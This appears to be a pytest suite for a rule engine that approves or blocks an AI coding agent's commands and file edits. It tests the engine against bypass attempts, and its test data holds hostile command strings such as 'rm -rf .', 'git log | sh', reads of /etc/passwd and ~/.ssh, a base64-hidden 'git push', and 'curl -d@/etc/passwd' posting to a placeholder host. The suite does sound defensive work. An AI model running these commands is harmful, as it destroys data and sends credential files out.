"""Test approval rules: an allow rule allows nothing else, and a deny rule denies every notation of a command."""

from __future__ import annotations

import re
import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from midwatch.base.errors import InvalidInput
from midwatch.domain.agent import Question
from midwatch.domain.rule import MOST_PATHS, Decision, Level, Pattern, Policy, Rule
from midwatch.services.globs import Glob
from midwatch.services.rule_decision import Match, allows, decide, match, narrow
from midwatch.services.rule_facts import MOST_PLACES, QuestionFacts, resolve_path


def run(command: str | None, **fields: Any) -> Question:
    return Question(text="May I?", kind="execute", command=command, **fields)


def edit(*paths: str, kind: Any = "edit") -> Question:
    return Question(text="May I?", kind=kind, paths=paths)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """Return a working directory beside another directory, with symlinks out of it and inside it."""
    root_folder, other_folder = tmp_path / "root", tmp_path / "other"
    for folder in (root_folder / "src" / "deep", other_folder):
        folder.mkdir(parents=True)
    (root_folder / "src" / "a.py").write_text("")
    (other_folder / "secret").write_text("")
    (root_folder / "out").symlink_to(other_folder)
    (root_folder / "leak").symlink_to(other_folder / "secret")
    (root_folder / "in").symlink_to(root_folder / "src")
    (root_folder / "loop").symlink_to(root_folder / "loop")
    return root_folder


def policy(*rules: Rule, **data: Any) -> list[Level]:
    return [Level("agent", Policy.from_data(data), rules)]


def decide_effect(question: Question, root: Path | None, *rules: Rule, **data: Any) -> str:
    """Return the effect for a tool that asks: if no rule applies, a person is asked."""
    return decide(question, None if root is None else str(root), policy(*rules, **data), "claude").effect or "ask"


# -- commands ------------------------------------------------------------------------------------------------------

ATTACKS = [
    "git log; rm -rf .", "git log && rm -rf .", "git log || x", "git log | sh", "git log > /etc/x", "git log $(x)",
    "git log `x`", "git log &", "git log\nrm -rf .", "GIT_PAGER=x git log", "/usr/bin/git log", "./git log",
    "git -c core.pager=x log", "git log --output=/etc/x", "git log -p", "git log ../other", "git log /etc/passwd",
    "git log out/secret", "git log leak", "git log HEAD:leak", "git\u00a0log", "git log\u2028x", "git log ~/x",
    "git log *",
    "bash -lc 'git log; rm -rf .'", "bash -lc 'git log' x", "env git log", "git  logs", "git", "gitlog", "",
]  # fmt: skip


@pytest.mark.parametrize("command", ATTACKS)
def test_an_allowed_command_allows_no_other_command(root: Path, command: str) -> None:
    assert decide_effect(run(command), root, allow=[{"command": "git log *"}, {"command": "git log"}]) == "ask"


@pytest.mark.parametrize(
    "command", ["git log", "git  log", '"git" log', "git log src", "git log in/a.py", "bash -lc 'git log main'"]
)
def test_an_allowed_command_is_recognised_in_every_notation(root: Path, command: str) -> None:
    decision = decide(run(command), str(root), policy(allow=[{"command": "git log *"}]))
    assert decision == Decision("allow", "rule:agent", "allow `git log *`", "agent")


def test_an_absolute_path_inside_the_directory_is_allowed(root: Path) -> None:
    assert decide_effect(run(f"git log {root}/src"), root, allow=[{"command": "git log *"}]) == "allow"
    assert decide_effect(run(f"git log {root}-x/src"), root, allow=[{"command": "git log *"}]) == "ask"
    assert decide_effect(run("git log src"), None, allow=[{"command": "git log *"}]) == "ask"
    assert decide_effect(run("git log"), None, allow=[{"command": "git log *"}]) == "allow"


def test_a_command_with_outside_files_needs_approval(root: Path) -> None:
    policy_data = {"allow": [{"command": "git log"}, {"kind": "execute"}]}
    assert decide_effect(run("git log", paths=("src/a.py",)), root, **policy_data) == "allow"
    assert decide_effect(run("git log", paths=("leak",)), root, **policy_data) == "ask"
    assert decide_effect(run("git log", paths=("/etc/x",)), root, **policy_data) == "ask"


def test_a_kind_allows_plain_commands_and_no_others(root: Path) -> None:
    assert decide_effect(run("make"), root, allow=[{"kind": "execute"}]) == "allow"
    for command in ("make; make", "make > x", None):
        assert decide_effect(run(command), root, allow=[{"kind": "execute"}]) == "ask"
    assert decide_effect(run("make"), root, allow=[{"kind": "edit", "path": "**"}]) == "ask"
    named = run("rm -rf src", paths=("src/a.py",))
    assert decide_effect(named, root, allow=[{"kind": "edit", "path": "**"}, {"kind": "read"}]) == "ask"


# -- paths ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "real"),
    [
        ("src/a.py", "src/a.py"), ("./src/../src/a.py", "src/a.py"), ("in/a.py", "src/a.py"), ("src/b", "src/b"),
        (".", "."), ("leak", None), ("out/secret", None), ("out/../root/src", "src"), ("..", None), ("../other", None),
        ("/etc/passwd", None), ("src/../../other/secret", None), ("~/x", None), ("", None), ("file:///etc/x", None),
        ("a\0b", None), ("loop", "loop"),
    ],
)  # fmt: skip
def test_symlinks_in_a_path_are_resolved(root: Path, path: str, real: str | None) -> None:
    assert resolve_path(path, str(root)) == real
    assert resolve_path(path, None) is None


@pytest.mark.parametrize(
    ("glob", "path", "allowed"),
    [
        ("src/*", "src/a.py", True), ("src/*", "src/deep/b.py", False), ("src/**", "src/deep/b.py", True),
        ("**/*.py", "src/deep/b.py", True), ("**/*.py", "b.py", True), ("src/?.py", "src/a.py", True),
        ("src/a.py", "src/a.py", True), ("src/a.py", "in/a.py", True), ("in/*", "in/a.py", False),
        ("**", "leak", False), ("**", "out/secret", False), ("**", "../other/secret", False),
        ("**", "/etc/passwd", False), ("*", "src/a.py", False), ("src/a[.]py", "src/a.py", False),
        ("src/a.py", "src/aXpy", False), ("**", "src/a.py\n", True),
    ],
)  # fmt: skip
def test_a_glob_stays_inside_the_directory(root: Path, glob: str, path: str, allowed: bool) -> None:
    assert decide_effect(edit(path), root, allow=[{"kind": "edit", "path": glob}]) == ("allow" if allowed else "ask")


def test_every_file_must_match_and_one_must_be_named(root: Path) -> None:
    policy_data = {"allow": [{"kind": "edit", "path": "src/**"}]}
    assert decide_effect(edit("src/a.py", "src/b.py"), root, **policy_data) == "allow"
    assert decide_effect(edit("src/a.py", "b.py"), root, **policy_data) == "ask"
    assert decide_effect(edit(), root, **policy_data) == "ask"
    assert decide_effect(edit(), root, allow=[{"kind": "edit"}]) == "ask"
    assert decide_effect(edit("src/a.py"), None, **policy_data) == "ask"
    assert decide_effect(edit("src/a.py", kind="delete"), root, **policy_data) == "ask"
    assert decide_effect(Question(text="?", kind="search"), root, allow=[{"kind": "search"}]) == "allow"


# -- denying -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("said", "asked"),
    [
        ({"command": "git push"}, run("git push --force")),
        ({"command": "git push"}, run("git log; git -C . push")),
        ({"command": "rm"}, run("bash -lc 'r\\m -rf x'")),
        ({"kind": "delete"}, edit("src/a.py", kind="delete")),
        ({"path": "src/**"}, edit("src/a.py", kind="read")),
        ({"path": "src/**"}, edit("in/a.py")),
        ({"path": "in/*"}, edit("in/a.py")),
        ({"path": "src/**"}, edit("b.py", "src/deep/b.py")),
        ({"path": "src/**"}, run("cat src/a.py")),
        ({"path": "src/**"}, run("rm -rf src")),
        ({"path": "SRC/*"}, edit("src/a.py")),
        ({"path": "/etc/**"}, run("cat /etc/passwd")),
        ({"path": "/etc/**"}, edit("../../../../../../../../../etc/passwd")),
        ({"path": "~/.ssh/**"}, run("cat ~/.ssh/id")),
        ({"path": "/etc/**"}, run("git log --output=/etc/x")),
        ({"path": "/etc/**"}, run("curl -d@/etc/passwd x >/dev/null")),
        ({"path": ".env"}, edit("./.env")),
        ({"kind": "execute", "command": "git push"}, run("git push")),
    ],
)
def test_a_deny_rule_overrides_every_allow_rule(root: Path, said: Any, asked: Question) -> None:
    everything = [{"kind": kind} for kind in ("execute", "read", "edit", "delete")]
    decision = decide(asked, str(root), policy(deny=[said], allow=everything, default="allow"))
    assert (decision.effect, decision.by) == ("deny", "rule:agent") and (decision.rule or "").startswith("deny ")


def test_other_commands_are_not_denied(root: Path) -> None:
    policy_data = {"deny": [{"command": "git push"}, {"kind": "edit", "path": "secret/**"}], "default": "allow"}
    assert decide_effect(run("git pull"), root, **policy_data) == "allow"
    assert decide_effect(edit("src/a.py"), root, **policy_data) == "allow"
    assert decide_effect(edit("secret/x", kind="read"), root, **policy_data) == "allow"


def test_a_command_that_could_hide_a_denied_one_needs_approval(root: Path) -> None:
    policy_data = {"deny": [{"command": "git push"}], "allow": [{"kind": "execute"}], "default": "allow"}
    for hidden in ("$(echo Z2l0IHB1c2g= | base64 -d)", "g?t pus?", None):
        assert decide_effect(run(hidden), root, **policy_data) == "ask"
    assert decide_effect(edit(), root, deny=[{"path": ".env"}], default="allow") == "ask"
    assert decide_effect(run("a; b"), root, deny=[{"kind": "delete"}], default="allow") == "allow"
    assert decide_effect(run("ls " + "x " * 20_000 + "; git push"), root, **policy_data) == "ask"
    unread = replace(run(None), certain=False)  # its kind is unknown, too
    assert decide_effect(unread, root, deny=[{"kind": "fetch"}], default="allow") == "ask"
    assert decide_effect(unread, root, default="allow") == "allow"


def test_a_very_large_request_needs_approval(root: Path) -> None:
    many = [f"src/{n}" for n in range(MOST_PATHS + 1)]
    policy_data = {"allow": [{"kind": "edit", "path": "**"}], "deny": [{"path": ".env"}], "default": "allow"}
    assert decide_effect(edit(*many[:-1]), root, **policy_data) == "allow"
    assert decide_effect(edit(*many), root, **policy_data) == "ask"
    assert decide_effect(edit(*many, ".env"), root, **policy_data) == "ask"
    huge, rules = run("x" * 10_000_000), [{"command": f"bad{n}"} for n in range(200)]
    began = time.process_time()
    assert decide_effect(huge, root, deny=rules, default="allow") == "ask"
    assert time.process_time() - began < 2


# -- time ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("glob", "path"),
    [
        ("*a" * 40 + "b", "a" * 80),
        ("**/*a/" * 40 + "b", "a/" * 80 + "c"),
        ("?*" * 40 + "b", "a" * 200),
    ],
)
def test_a_glob_with_many_wildcards_is_compared_in_linear_time(root: Path, glob: str, path: str) -> None:
    """A matcher that tries all combinations does not end within the time limit of a test."""
    rules = {"allow": [{"kind": "edit", "path": glob}], "deny": [{"path": glob}]}
    assert decide_effect(edit(path), root, **rules) == "ask"
    assert decide_effect(edit(path.replace("c", "") + "b"), root, **rules) == "deny"


def translate(glob: str) -> re.Pattern[str]:
    """Return a glob as an expression that tries all combinations. It defines what a glob means."""
    steps = glob.rstrip("/").split("/")
    pattern = ""
    for at, step in enumerate(steps):
        last = at == len(steps) - 1
        if step == "**":
            pattern += ".+" if last else "(?:[^/]+/)*"
        else:
            signs = {"*": "[^/]*", "?": "[^/]"}
            pattern += "".join(signs.get(sign, re.escape(sign)) for sign in step) + ("" if last else "/")
    return re.compile(pattern, re.DOTALL)


@settings(max_examples=600, deadline=None)
@given(
    st.lists(st.sampled_from(["**", "*", "?", "a", "b", "/", "\n", ".", "**/"]), max_size=9).map("".join),
    st.lists(st.sampled_from(["a", "b", "/", "\n", ".", "ab", "a/b"]), max_size=9).map("".join),
)
@example("**/*/**/b", "a//b")
@example("a/**", "a/")
def test_a_glob_means_what_its_definition_says(glob: str, path: str) -> None:
    assert Glob.parse(glob).matches(path) == bool(translate(glob).fullmatch(path))


def test_a_command_with_very_many_paths_needs_approval(root: Path) -> None:
    """Each sign in the first command begins another path; compared with links, they would take minutes."""
    rules = {"deny": [{"path": ".env"}, {"command": "a b"}], "allow": [{"command": "ls **"}], "default": "allow"}
    commands = ["ls " + "=" * 19_000, "ls " + "x/" * 9_000, "ls " + " ".join(str(n) for n in range(MOST_PLACES))]
    for command in commands:
        facts = QuestionFacts(run(command), str(root))
        assert decide_effect(run(command), root, **rules) == "ask"
        assert len(facts.places.texts) <= MOST_PLACES
        assert len(facts.possible_paths) <= 6 * MOST_PLACES
    assert decide_effect(run(f"ls .env {'=' * 19_000}"), root, **rules) == "deny"
    assert decide_effect(run("a " * 9_000), root, **rules) == "allow"


# -- order ---------------------------------------------------------------------------------------------------------


def rule(effect: Any, **fields: Any) -> Rule:
    return Rule(id="r_1", agent="claude", effect=effect, **fields)


def test_deny_comes_before_allow_and_allow_before_the_default(root: Path) -> None:
    question = run("make")
    assert decide_effect(question, root) == "ask"
    assert decide_effect(question, root, default="deny") == "deny"
    assert decide_effect(question, root, default="allow") == "allow"
    assert decide_effect(question, root, allow=[{"command": "make"}], deny=[{"command": "make"}]) == "deny"
    assert decide_effect(question, root, allow=[{"command": "make"}], default="deny") == "allow"
    assert decide_effect(question, root, rule("allow", command="make"), default="deny") == "allow"
    assert decide_effect(question, root, rule("deny", command="make"), allow=[{"command": "make"}]) == "deny"
    assert decide_effect(question, root, rule("allow", command="make"), deny=[{"command": "make"}]) == "deny"
    assert decide_effect(question, root, rule("allow", command="make", revoked_at=1)) == "ask"
    decision = decide(question, str(root), policy(rule("allow", command="make")))
    assert decision == Decision("allow", "rule:r_1", "always allow `make` for claude", "agent")
    assert decide(question, None, policy(default="deny")) == Decision("deny", "rule:agent", "default: deny", "agent")
    assert decide(question, None, policy()) == Decision()


def test_a_lower_level_can_only_be_stricter(root: Path) -> None:
    desk = Policy.from_data({"ask": [{"command": "git push"}], "deny": [{"command": "rm"}]})
    agent = Policy.from_data({"default": "ask", "allow": [{"kind": "execute"}], "deny": [{"command": "make x"}]})
    own = Policy.from_data({"default": "allow", "ask": [{"command": "make"}], "deny": [{"command": "ls"}]})
    levels = [Level("desk", desk), Level("agent", agent), Level("task", own)]
    for command, effect, by in (
        ("pwd", "allow", "rule:agent"),
        ("pwd & pwd", "ask", "rule:desk"),  # it may hide a denied command
        ("make", "ask", "rule:task"),
        ("make x", "deny", "rule:agent"),
        ("ls", "deny", "rule:task"),
        ("rm x", "deny", "rule:desk"),
        ("git push", "ask", "rule:desk"),
    ):
        decision = decide(run(command), str(root), levels)
        assert (decision.effect, decision.by) == (effect, by), command
    silent = [Level("desk", Policy()), Level("agent", Policy()), Level("task", own)]
    assert decide(run("pwd"), str(root), silent).effect == "allow"


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(["allow", "ask", "deny", None]), min_size=1, max_size=5), st.booleans())
def test_the_strictest_level_decides(effects: list[Any], by_default: bool) -> None:
    """The definition of levels: the strictest opinion counts, and a level without opinion changes nothing."""

    def make_level(effect: str | None) -> Level:
        data = {} if effect is None else {"default": effect} if by_default else {effect: [{"kind": "search"}]}
        return Level("task", Policy.from_data(data))

    found = decide(Question(text="?", kind="search"), None, [make_level(effect) for effect in effects]).effect
    strictness = [None, "allow", "ask", "deny"]
    assert found == max(effects, key=strictness.index)


def test_a_plain_question_goes_to_a_person_unless_everything_is_denied(root: Path) -> None:
    plain = Question(text="Deploy?", command="make", paths=("src/a.py",))
    everything: dict[str, Any] = {"allow": [{"kind": kind} for kind in ("execute", "other")]}
    assert decide_effect(plain, root, default="allow", **everything) == "ask"
    assert decide_effect(plain, root, default="deny") == "deny"


def test_a_rule_of_one_directory_does_not_apply_elsewhere(root: Path) -> None:
    local_rule = rule("allow", command="make", root=str(root))
    assert decide_effect(run("make"), root, local_rule) == "allow"
    assert decide_effect(run("make"), root.parent / "root" / "in" / "..", local_rule) == "allow"
    assert decide_effect(run("make"), root / "src", local_rule) == "ask"
    assert decide_effect(run("make"), root.parent, local_rule) == "ask"
    assert decide_effect(run("make"), None, local_rule) == "ask"


# -- rules made of an always answer --------------------------------------------------------------------------------


def test_the_narrowest_rule_is_the_exact_command_or_file(root: Path) -> None:
    directory = str(root)
    assert narrow(run("git  status"), directory) == Pattern("execute", "git status", None, directory)
    assert narrow(run("bash -lc 'git commit -m \"a b\"'"), directory) == Pattern(
        "execute", "git commit -m 'a b'", None, directory
    )
    assert narrow(edit("in/a.py"), directory) == Pattern("edit", None, "src/a.py", directory)
    assert narrow(edit(f"{directory}/x", kind="delete"), directory) == Pattern("delete", None, "x", directory)


@pytest.mark.parametrize(
    "asked",
    [
        run("git status; ls"), run("git log '*'"), run("ls '**'"), run(None), run("x " + "y" * 2000),
        run("make", paths=("/etc/x",)), edit("a", "b"), edit(), edit("leak"), edit("/etc/passwd"), edit("a*b"),
        edit("."), Question(text="?", kind="search"), Question(text="?", kind="fetch"),
        Question(text="?", kind="choice", command="ls"),
    ],
)  # fmt: skip
def test_no_rule_is_made_of_an_ambiguous_question(root: Path, asked: Question) -> None:
    assert narrow(asked, str(root)) is None


def test_a_rule_made_of_a_question_answers_it_again_and_little_else(root: Path) -> None:
    for question in (run("git commit -m 'it; is $done'"), edit("src/new.py")):
        pattern = narrow(question, str(root))
        assert pattern is not None
        facts = QuestionFacts(question, str(root))
        assert allows(pattern, facts) and match(pattern, facts) is Match.YES
        assert narrow(question, None) is None
    pattern = narrow(run("git commit -m x"), str(root))
    assert pattern is not None and not allows(pattern, QuestionFacts(run("git commit -m x --amend"), str(root)))


# -- JSON and descriptions -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ("ask", "table of `default`"),
        ({"defualt": "ask"}, "table of `default`"),
        ({"default": "yes"}, "ask, deny or allow"),
        ({"expires": 0}, "above 0 seconds"),
        ({"expires": True}, "duration"),
        ({"expires": "soon"}, "duration"),
        ({"allow": "all"}, "list of up to"),
        ({"allow": ["git log"]}, "table of `tool`"),
        ({"allow": [{}]}, "table of `tool`"),
        ({"deny": [{}]}, "table of `tool`"),
        ({"ask": [{"root": "/x"}]}, "has no 'root'; its fields are `tool`"),
        ({"deny": [{"command": "x"}, {"tool": "x", "comand": "x"}]}, "has no 'comand'; its fields are"),
        ({"deny": [{1: "x"}]}, "has no '1'"),
        ({"deny": [{"host": "a\0b"}]}, "NUL"),
        ({"allow": [{"kind": "choice"}]}, "not a kind of tool"),
        ({"allow": [{"kind": 1}]}, "texts of up to"),
        ({"allow": [{"command": ""}]}, "texts of up to"),
        ({"allow": [{"command": "*"}]}, "plain command"),
        ({"allow": [{"command": "git log; ls"}]}, "plain command"),
        ({"allow": [{"path": "src/**"}]}, "needs a kind of tool"),
        ({"allow": [{"kind": "edit", "path": "/etc/x"}]}, "inside the working directory"),
        ({"allow": [{"kind": "edit", "path": "~/x"}]}, "inside the working directory"),
        ({"allow": [{"kind": "edit", "path": "../x"}]}, "must not contain . or .."),
        ({"deny": [{"path": "a/../x"}]}, "must not contain . or .."),
        ({"deny": [{"command": "x"}] * 201}, "list of up to 200"),
    ],
)
def test_invalid_rules_are_refused_with_a_remedy(said: Any, told: str) -> None:
    with pytest.raises(InvalidInput, match=told):
        Policy.from_data(said)


def test_a_policy_is_read_back_unchanged() -> None:
    policy_data = {"default": "deny", "allow": [{"kind": "edit", "path": "src/**"}], "deny": [{"path": "/etc/**"}]}
    assert Policy.from_data(policy_data).data() == policy_data
    assert Policy.from_data({"expires": "2h"}).data() == {"expires": 7200.0}
    assert Policy.from_data({}).data() == {}


def test_a_rule_is_described_in_words() -> None:
    assert rule("allow", command="git status", root="/r").text == "always allow `git status` for claude in /r"
    assert rule("deny", kind="edit", path="a.py").text == "always deny edit of a.py for claude"
    assert Pattern(path="/etc/**").words() == "any use of /etc/**"
    assert Pattern(kind="fetch").words() == "fetch"
    shown = rule("deny", kind="edit").snapshot()
    assert (shown["text"], shown["revoked_at"]) == ("always deny edit for claude", None)
